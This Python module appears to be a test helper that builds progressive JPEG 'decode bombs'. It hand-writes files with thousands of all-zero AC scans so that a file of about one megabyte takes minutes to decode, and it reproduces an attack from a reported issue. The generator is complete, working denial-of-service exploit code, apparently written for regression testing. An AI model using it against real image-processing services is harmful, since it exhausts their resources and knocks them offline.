"""Progressive JPEG 'decode bombs', built byte by byte (no encoder can write one).

A progressive AC scan whose blocks are all zero is a handful of EOB-run codes (one code
covers up to 32,767 blocks), so it costs ~80 bytes in the file, while the decoder still
walks every block of the image for it. Thousands of such scans in a megabyte make one
decode take minutes. The image is grey, with a single quantisation and Huffman table.

`progressive_bomb(8192, 8192, 11_000)` is the attack from issue 12 (about 1 MB);
`scans` small (<= 10) gives an ordinary, harmless progressive JPEG of the same shape.
"""

from __future__ import annotations

from functools import lru_cache

MAX_RUN = 32767  # EOB14 plus 14 extra bits: the longest run one code can say


class _Bits:
    """MSB-first bit writer with JPEG's 0xFF byte stuffing."""

    def __init__(self) -> None:
        self.out = bytearray()
        self._acc = 0
        self._n = 0

    def put(self, value: int, length: int) -> None:
        self._acc = (self._acc << length) | (value & ((1 << length) - 1))
        self._n += length
        while self._n >= 8:
            self._n -= 8
            byte = (self._acc >> self._n) & 0xFF
            self.out.append(byte)
            if byte == 0xFF:
                self.out.append(0x00)
        self._acc &= (1 << self._n) - 1

    def done(self) -> bytes:
        if self._n:
            self.put((1 << (8 - self._n)) - 1, 8 - self._n)  # pad with 1-bits
        return bytes(self.out)


def _segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + (len(payload) + 2).to_bytes(2, "big") + payload


def _dht(table_class: int, table_id: int, codes: dict[int, int]) -> bytes:
    """A Huffman table giving each symbol a code of the given length (canonical order)."""
    counts = [0] * 16
    for length in codes.values():
        counts[length - 1] += 1
    symbols = sorted(codes, key=lambda s: (codes[s], s))
    return _segment(0xC4, bytes([table_class << 4 | table_id, *counts, *symbols]))


def _sos(ss: int, se: int, ah: int, al: int) -> bytes:
    return _segment(0xDA, bytes([1, 1, 0x00, ss, se, ah << 4 | al]))


def _dc_scan(blocks: int) -> bytes:
    bits = _Bits()
    for _ in range(blocks):
        bits.put(0, 1)  # DC category 0: no change, one bit per block
    return bits.done()


def _eob_scan(blocks: int, max_run: int) -> bytes:
    """An AC scan of all-zero blocks: EOB runs covering every block."""
    bits = _Bits()
    left = blocks
    while left:
        run = min(left, max_run)
        r = run.bit_length() - 1
        bits.put(r, 4)                  # EOBr has the 4-bit code r (see the AC table)
        if r:
            bits.put(run - (1 << r), r)
        left -= run
    return bits.done()


def progressive_bomb(width: int, height: int, scans: int, max_run: int = MAX_RUN) -> bytes:
    """A grey progressive JPEG of width x height with `scans` scans (1 DC + the rest AC).

    A smaller `max_run` makes each scan longer in bytes for the same decoding work.
    """
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    parts = [b"\xff\xd8", _segment(0xDB, bytes([0]) + bytes([1] * 64)),
             _segment(0xC2, bytes([8]) + height.to_bytes(2, "big") + width.to_bytes(2, "big") + bytes([1, 1, 0x11, 0])),
             _dht(0, 0, {0: 1}), _dht(1, 0, {r << 4: 4 for r in range(15)}),
             _sos(0, 0, 0, 0), _dc_scan(blocks)]
    eob = _eob_scan(blocks, max_run)
    for i in range(scans - 1):
        band = 1 + i % 63
        parts += [_sos(band, band, 0, 0), eob]  # bands repeat past 63: libjpeg only warns
    parts.append(b"\xff\xd9")
    return b"".join(parts)


@lru_cache(maxsize=1)
def issue12_bomb() -> bytes:
    """The attack from issue 12: 8192x8192 grey with 11,000 scans, ~1.5 MB (~110 s to decode here)."""
    return progressive_bomb(8192, 8192, 11_000)
